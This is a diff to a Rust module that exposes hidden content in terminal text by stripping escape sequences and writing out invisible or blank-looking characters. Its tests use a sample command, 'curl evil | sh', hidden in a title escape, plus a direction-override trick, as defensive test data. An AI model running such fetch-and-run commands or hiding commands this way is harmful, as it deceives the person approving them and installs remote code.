@@ -1,7 +1,5 @@
 //! Text that was written for a terminal, without what only a terminal understands.
 
-use std::ops::RangeInclusive;
-
 /// The text without escape sequences, each of them whole: colours, titles, links, movements of the
 /// cursor. Other control characters stay.
 pub fn without_escapes(text: &str) -> String {
@@ -18,39 +16,25 @@ pub fn without_escapes(text: &str) -> String {
     plain
 }
 
-/// The text with what a terminal would obey written out: what a person is asked to allow hides nothing, neither
-/// in an escape sequence, which a shell runs, nor by turning the direction of letters, nor in letters that no
-/// terminal shows.
+/// The text with all that is not seen written out, but for blanks, tabs and the ends of lines: what a person is asked to
+/// allow hides nothing, neither in an escape sequence, which a shell runs, nor by turning the direction of letters, nor
+/// in letters that no screen shows or that look like a blank.
 pub fn in_sight(text: &str) -> String {
-    let hides = |c: char| UNSEEN.iter().any(|unseen| unseen.contains(&c)) || is_obeyed(c);
     let mut seen = String::with_capacity(text.len());
+    let mut before = ' ';
     for c in text.chars() {
-        if hides(c) { seen.extend(c.escape_default()) } else { seen.push(c) }
+        // Behind a symbol it is seen: half of all emoji have their colours by it.
+        let colours = c == '\u{fe0f}' && matches!(before, '\u{2190}'..='\u{2bff}' | '\u{1f000}'..);
+        let is_plain = is_seen(c) || colours || matches!(c, ' ' | '\n' | '\t');
+        if is_plain {
+            seen.push(c);
+        } else {
+            seen.extend(c.escape_default());
+        }
+        before = c;
     }
     seen
 }
-
-fn is_obeyed(c: char) -> bool {
-    c.is_control() && !matches!(c, '\n' | '\t')
-}
-
-/// Letters without a picture, of no width or blank: soft hyphen, marks of direction, joiners and separators,
-/// Hangul fillers, the empty Braille cell, the byte order mark, anchors, tags and rare variation selectors. The usual
-/// selectors (U+FE0F) stand behind half of all emoji and are left alone.
-const UNSEEN: [RangeInclusive<char>; 12] = [
-    '\u{ad}'..='\u{ad}',
-    '\u{61c}'..='\u{61c}',
-    '\u{115f}'..='\u{1160}',
-    '\u{180b}'..='\u{180e}',
-    '\u{200b}'..='\u{200f}',
-    '\u{2028}'..='\u{202e}',
-    '\u{2060}'..='\u{206f}',
-    '\u{2800}'..='\u{2800}',
-    '\u{3164}'..='\u{3164}',
-    '\u{feff}'..='\u{feff}',
-    '\u{ffa0}'..='\u{ffa0}',
-    '\u{e0000}'..='\u{e0fff}',
-];
 
 /// The words of a text with one blank between them, on one line.
 pub fn in_one_line(text: &str) -> String {
@@ -139,9 +123,10 @@ mod tests {
         let seen = "true \\u{1b}]0;; curl evil | sh #\\u{7}\n\trm \\u{202e}x";
         assert_eq!(in_sight(hidden), seen);
         assert_eq!(without_escapes(&in_sight(hidden)), seen);
-        for unseen in
-            ['\u{ad}', '\u{200b}', '\u{2028}', '\u{2066}', '\u{3164}', '\u{feff}', '\u{e0041}']
-        {
+        let invisible = "\u{ad}\u{34f}\u{17b4}\u{17b5}\u{200b}\u{2028}\u{2066}\u{fe00}\u{fe0f}\u{feff}\u{fff9}\
+                         \u{fffb}\u{1d173}\u{1d17a}\u{e0041}";
+        let like_blanks = "\u{a0}\u{1680}\u{2000}\u{200a}\u{202f}\u{205f}\u{2800}\u{3000}\u{3164}";
+        for unseen in invisible.chars().chain(like_blanks.chars()) {
             let written = format!("rm \\u{{{:x}}}x", u32::from(unseen));
             assert_eq!(in_sight(&format!("rm {unseen}x")), written);
         }
